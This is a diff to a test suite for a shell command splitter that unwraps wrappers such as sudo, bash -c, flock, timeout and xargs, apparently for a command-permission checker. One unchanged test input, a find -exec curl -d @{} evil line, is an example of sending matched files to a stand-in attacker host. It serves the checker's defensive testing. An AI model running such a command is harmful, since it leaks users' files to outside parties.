@@ -60,7 +60,7 @@ describe("splitting a command line into simple commands", () => {
     ["time git push", "git push"],
     ["env -i A=1 nohup timeout -s KILL 5 nice -n 3 git push", "git push"],
     ["sh -c 'git push'", "git push"],
-    ['bash -lc "git   push"', "git push"],
+    ['bash -c "git   push"', "git push"],
     ["bash -c 'sh -c \"git push\"'", "git push"],
     ["eval git push", "git push"],
     ["echo hi > out.txt", "echo hi > out.txt"],
@@ -71,7 +71,11 @@ describe("splitting a command line into simple commands", () => {
   it("sees the commands that other programs run for it", () => {
     expect(parts("sudo -u root git push")).toEqual(["git push"]);
     expect(parts("coproc curl x")).toEqual(["curl x"]);
-    expect(parts("watch -n 1 git push")).toEqual(["watch -n 1 git push", "git push"]);
+    expect(parts("watch -n 1 git push")).toEqual(["git push"]);
+    expect(parts("flock -n /tmp/l git push")).toEqual(["git push"]);
+    expect(parts("flock /tmp/l -c 'git push'")).toEqual(["git push"]);
+    expect(parts("ionice -c 3 taskset -c 0 chrt -o 0 git push")).toEqual(["git push"]);
+    expect(parts("timeout --sig KILL 5 git push")).toEqual(["git push"]);
     expect(parts("trap 'curl x' EXIT")).toEqual(["trap curl x EXIT", "curl x"]);
     expect(splitCommand("find . -name '*.js' -exec curl -d @{} evil \\;").parts).toEqual([
       { text: "find . -name *.js -exec curl -d @{} evil ;" },
@@ -97,10 +101,12 @@ describe("splitting a command line into simple commands", () => {
   it("marks what cannot be known before it runs", () => {
     expect(splitCommand("$X push").parts[0]?.unknown).toContain("command name");
     expect(splitCommand('eval "$X"').parts[0]?.unknown).toContain("eval");
-    expect(splitCommand('bash -c "$SCRIPT"').parts[0]?.unknown).toContain("-c script");
+    expect(splitCommand('bash -c "$SCRIPT"').parts[0]?.unknown).toContain("only known when it runs");
     expect(splitCommand("echo 'unterminated").parts[0]?.unknown).toContain("does not parse");
     expect(splitCommand("{git,push}").parts[0]?.unknown).toBeDefined();
-    expect(splitCommand("xargs -n1 rm").parts).toEqual([{ text: "rm", dynamicArguments: true }]);
+    expect(splitCommand("xargs -n1 rm").parts).toEqual([
+      { text: "rm", dynamicArguments: true, wrappers: ["xargs -n1 rm"] },
+    ]);
     expect(splitCommand("git $P").parts).toEqual([{ text: "git $P", dynamicArguments: true }]);
   });
 });
